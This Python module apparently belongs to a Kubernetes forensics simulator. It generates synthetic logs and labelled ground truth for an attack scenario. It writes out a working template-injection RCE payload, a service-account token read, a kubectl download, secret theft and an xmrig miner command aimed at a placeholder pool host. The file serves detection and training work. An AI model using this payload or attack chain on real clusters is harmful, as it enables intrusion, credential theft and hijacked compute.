"""B. Exposed app RCE -> service-account token theft -> discovery -> secrets -> cryptominer."""

from __future__ import annotations

from kubeforensics.simulate.clock import NS
from kubeforensics.simulate.cluster import ServiceAccount, Workload
from kubeforensics.simulate.dataset import MS, Dataset
from kubeforensics.simulate.formats import audit as fa
from kubeforensics.simulate.formats import tetragon as ft
from kubeforensics.simulate.formats.hubble import WORLD
from kubeforensics.simulate.scenarios.common import public_ip
from kubeforensics.simulate.topology import App, add_app_pod

NAME = "miner"
DESCRIPTION = "web app RCE, service-account token theft, discovery, secrets read, miner Deployment in kube-system"
PINNED: tuple[str, ...] = ("frontend",)
KUBECTL_UA = "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def _rbac(ds: Dataset) -> None:
    cl = ds.cl
    bot = ServiceAccount("shop", "deploy-bot", ds.ids.uuid(), cl.t0 - 200 * 86400 * NS)
    cl.service_accounts["shop/deploy-bot"] = bot
    ts = "2025-09-14T11:02:37Z"
    cl.rbac += [
        {"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
         "metadata": {"name": "frontend-edit", "namespace": "shop", "uid": ds.ids.uuid(), "creationTimestamp": ts},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
         "subjects": [{"kind": "ServiceAccount", "name": "frontend", "namespace": "shop"}]},
        {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
         "metadata": {"name": "deploy-bot-admin", "uid": ds.ids.uuid(), "creationTimestamp": ts},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
         "subjects": [{"kind": "ServiceAccount", "name": bot.name, "namespace": "shop"}]},
    ]
    ds.extra_objects.append({"kind": "Secret", "apiVersion": "v1", "type": "kubernetes.io/service-account-token",
                             "metadata": {"name": "deploy-bot-token", "namespace": "shop", "uid": ds.ids.uuid(),
                                          "creationTimestamp": ts,
                                          "annotations": {"kubernetes.io/service-account.name": "deploy-bot"}}})


def run(ds: Dataset) -> None:
    cl, rng, tr = ds.cl, ds.rng, ds.truth
    _rbac(ds)
    pod = rng.choice(cl.pods_of("shop", "frontend"))
    app = pod.containers[0].init
    assert app is not None
    ip = public_ip(ds)
    pool_ip = public_ip(ds)
    t = cl.t0 + int((cl.t1 - cl.t0) * rng.uniform(0.33, 0.4))
    payload = "/api/v1/preview?template=%7B%7Bcycler.__init__.__globals__.os.popen(request.args.c).read()%7D%7D&c=id"

    tr.begin(t, "T1190", "Initial Access", f"template injection request from {ip} to shop/{pod.name}",
             namespace="shop", pod=pod.name, ip=ip)
    ds.inbound(t, ip, WORLD, pod, 8080, http=("GET", f"http://shop.acme.example{payload}", 200, "python-requests/2.31.0"))
    tr.end()

    t += rng.randrange(50, 400) * MS
    tr.begin(t, "T1059.004", "Execution", f"gunicorn in shop/{pod.name} spawns sh -c id", namespace="shop",
             pod=pod.name, process="/bin/sh")
    sh = ds.spawn(t, app, "/bin/sh", "-c id", exit_after=8 * MS)
    ds.spawn(t + 2 * MS, sh, "/usr/bin/id", "", exit_after=3 * MS)
    ds.falco_proc(t + MS, "Run shell untrusted", "Notice", "Shell spawned by untrusted binary", sh,
                  ["process", "shell", "mitre_execution", "T1059.004"])
    tr.end()

    t += rng.randrange(20, 90) * NS
    tr.begin(t, "T1528", "Credential Access", f"reads the service-account token of shop/{pod.name}",
             namespace="shop", pod=pod.name, process="/bin/cat", file=TOKEN)
    sh = ds.spawn(t, app, "/bin/sh", f"-c 'cat {TOKEN}'", exit_after=6 * MS)
    cat = ds.spawn(t + MS, sh, "/bin/cat", TOKEN, exit_after=3 * MS)
    ds.kprobe(cat, t + 2 * MS, "security_file_permission", [ft.file_arg(TOKEN), {"int_arg": 4}], "sensitive-files",
              ret={"int_arg": 0})
    tr.end()

    t += rng.randrange(30, 120) * NS
    tr.begin(t, "T1105", "Command and Control", "downloads kubectl into /tmp", namespace="shop", pod=pod.name,
             process="/usr/bin/curl", file="/tmp/kubectl")
    sh = ds.spawn(t, app, "/bin/sh", "-c 'curl -sLo /tmp/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/"
                  "kubectl && chmod +x /tmp/kubectl'", exit_after=4 * NS)
    curl = ds.spawn(t + 2 * MS, sh, "/usr/bin/curl", "-sLo /tmp/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/"
                    "amd64/kubectl", exit_after=3 * NS)
    _, ips = ds.dns(t + 4 * MS, pod, "dl.k8s.io")
    ds.connect(t + 30 * MS, curl, ips[0], 443, names=["dl.k8s.io"])
    ds.spawn(t + 3500 * MS, sh, "/bin/chmod", "+x /tmp/kubectl", exit_after=MS)
    tr.end()

    t += rng.randrange(20, 60) * NS
    user = fa.sa_user(pod.sa, pod, ds.ids.uuid())
    tr.begin(t, "T1613", "Discovery", f"the frontend service account enumerates from {pod.ip}: many 403s",
             namespace="shop", pod=pod.name, user=pod.sa.username, ip=pod.ip, process="/tmp/kubectl")
    calls = (("create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", "selfsubjectrulesreviews", None,
              "authorization.k8s.io", 201),
             ("list", "/api/v1/pods?limit=500", "pods", None, "", 403),
             ("list", "/api/v1/namespaces?limit=500", "namespaces", None, "", 403),
             ("list", "/api/v1/nodes?limit=500", "nodes", None, "", 403),
             ("list", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500", "clusterrolebindings", None,
              "rbac.authorization.k8s.io", 403),
             ("list", "/api/v1/namespaces/kube-system/secrets?limit=500", "secrets", "kube-system", "", 403),
             ("list", "/api/v1/namespaces/shop/pods?limit=500", "pods", "shop", "", 200))
    tt = t
    for verb, uri, res, ns, group, code in calls:
        k = ds.spawn(tt, app, "/tmp/kubectl", {"create": "auth can-i --list"}.get(verb, f"get {res}" + (
            f" -n {ns}" if ns else " -A")), exit_after=400 * MS)
        ds.connect(tt + 20 * MS, k, cl.apiserver_ip, 6443, service=("default", "kubernetes"))
        ds.api(tt + 60 * MS, user=user, verb=verb, uri=uri, ip=pod.ip, ua=KUBECTL_UA, code=code,
               ref=fa.ref(res, ns, api_group=group), message=f'{res} is forbidden: User "{pod.sa.username}" cannot '
               f'{verb} resource "{res}"' if code == 403 else "",
               authz='RBAC: allowed by RoleBinding "frontend-edit/shop" of ClusterRole "edit" to ServiceAccount '
                     '"frontend/shop"' if code < 400 else "")
        if verb == "create":
            ds.falco_proc(tt + 25 * MS, "Contact K8S API Server From Container", "Notice",
                          "Unexpected connection to K8s API Server from container", k,
                          ["container", "network", "k8s", "mitre_discovery", "T1565"], evt_type="connect",
                          extra={"fd.name": f"{pod.ip}:{rng.randrange(32768, 60999)}->{cl.apiserver_ip}:6443"})
        tt += rng.randrange(2, 15) * NS
    tr.end()

    t = tt + rng.randrange(10, 40) * NS
    tr.begin(t, "T1552.007", "Credential Access", "lists secrets of shop and reads deploy-bot-token",
             namespace="shop", pod=pod.name, user=pod.sa.username, ip=pod.ip, secret="deploy-bot-token")
    for i, (verb, uri, name) in enumerate((("list", "/api/v1/namespaces/shop/secrets?limit=500", None),
                                           ("get", "/api/v1/namespaces/shop/secrets/deploy-bot-token", "deploy-bot-token"))):
        tt = t + i * rng.randrange(5, 20) * NS
        k = ds.spawn(tt, app, "/tmp/kubectl", f"get secret{' ' + name if name else 's'} -n shop -o yaml",
                     exit_after=300 * MS)
        ds.connect(tt + 20 * MS, k, cl.apiserver_ip, 6443, service=("default", "kubernetes"))
        ds.api(tt + 60 * MS, user=user, verb=verb, uri=uri, ip=pod.ip, ua=KUBECTL_UA, ref=fa.ref("secrets", "shop", name),
               authz='RBAC: allowed by RoleBinding "frontend-edit/shop" of ClusterRole "edit" to ServiceAccount '
                     '"frontend/shop"', received_stage=True)
    tr.end()

    t = tt + rng.randrange(60, 180) * NS
    wname = rng.choice(("kube-dns-metrics", "node-cache-agent", "coredns-autoscaler"))
    bot = cl.sa("shop", "deploy-bot")
    image = "docker.io/kubeops/metrics-proxy:1.4.2"
    tr.begin(t, "T1036.005", "Defense Evasion", f"creates Deployment kube-system/{wname} running a miner, with the "
             "deploy-bot token", namespace="kube-system", user=bot.username, ip=pod.ip, workload=wname, image=image)
    k = ds.spawn(t, app, "/tmp/kubectl", f"--token=eyJhbGciOi... -n kube-system apply -f /tmp/{wname}.yaml",
                 exit_after=600 * MS)
    ds.connect(t + 20 * MS, k, cl.apiserver_ip, 6443, service=("default", "kubernetes"))
    mapp = App("kube-system", wname, "Deployment", 2, "default", image, "/usr/local/bin/xmrig",
               f"-o {wname}.pool.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReo"
               "S44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level=0 -B")
    w = Workload("Deployment", "kube-system", wname, ds.ids.uuid(), {"k8s-app": wname}, cl.sa("kube-system", "default"),
                 t, replicas=2, rs_hash=ds.ids.rs_hash(), rs_uid=ds.ids.uuid(), spec_extra={"app": mapp})
    cl.workloads.append(w)
    ds.api(t + 80 * MS, user=fa.sa_user(bot), verb="create", uri="/apis/apps/v1/namespaces/kube-system/deployments"
           "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", ip=pod.ip, ua=KUBECTL_UA, code=201,
           level="RequestResponse", ref=fa.ref("deployments", "kube-system", wname, api_group="apps"),
           req={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": wname, "namespace": "kube-system"},
                "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": wname, "image": image}]}}}},
           resp={"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": wname, "namespace": "kube-system",
                                                                              "uid": w.uid}},
           authz='RBAC: allowed by ClusterRoleBinding "deploy-bot-admin" of ClusterRole "cluster-admin" to '
                 'ServiceAccount "deploy-bot/shop"', received_stage=True)
    tt = t + 150 * MS
    ds.event(tt, "Deployment", "kube-system", wname, w.uid, "ScalingReplicaSet",
             f"Scaled up replica set {wname}-{w.rs_hash} to 2", component="deployment-controller", api_version="apps/v1")
    miners = []
    for i, node in enumerate(rng.sample(cl.workers, 2)):
        tt += rng.randrange(20, 200) * MS
        mp = add_app_pod(cl, ds.ids, mapp, w, node, i, tt, flags="execve rootcwd clone")
        ds.api(tt, user=fa.sa_user(cl.sa("kube-system", "replicaset-controller")), verb="create", code=201,
               uri="/api/v1/namespaces/kube-system/pods", ip=cl.control_plane.ip, ua=fa.UA_KCM,
               ref=fa.ref("pods", "kube-system", mp.name))
        ds.event(tt, "ReplicaSet", "kube-system", f"{wname}-{w.rs_hash}", w.rs_uid, "SuccessfulCreate",
                 f"Created pod: {mp.name}", component="replicaset-controller", api_version="apps/v1")
        ds.start_pod(tt, mp)
        miners.append(mp)
    tr.end()

    t = max(m.containers[0].start_ns for m in miners) + rng.randrange(2, 6) * NS
    tr.begin(t, "T1496", "Impact", f"xmrig in {len(miners)} pods connects to the pool {pool_ip}:3333",
             namespace="kube-system", workload=wname, ip=pool_ip, process="/usr/local/bin/xmrig")
    for mp in miners:
        proc = mp.containers[0].init
        assert proc is not None
        tm = proc.start_ns + rng.randrange(300, 900) * MS
        ds.dns(tm - 5 * MS, mp, f"{wname}.pool.example", answer=[pool_ip])
        while tm < cl.t1:
            ds.connect(tm, proc, pool_ip, 3333, names=[f"{wname}.pool.example"])
            ds.falco_proc(tm + MS, "Detect outbound connections to common miner pool ports", "Critical",
                          "Outbound connection to IP/Port flagged by https://cryptoioc.ch", proc,
                          ["host", "container", "network", "mitre_impact", "T1496"], evt_type="connect",
                          extra={"fd.name": f"{mp.ip}:{rng.randrange(32768, 60999)}->{pool_ip}:3333"})
            tm += rng.randrange(12, 20) * 60 * NS
    tr.end()
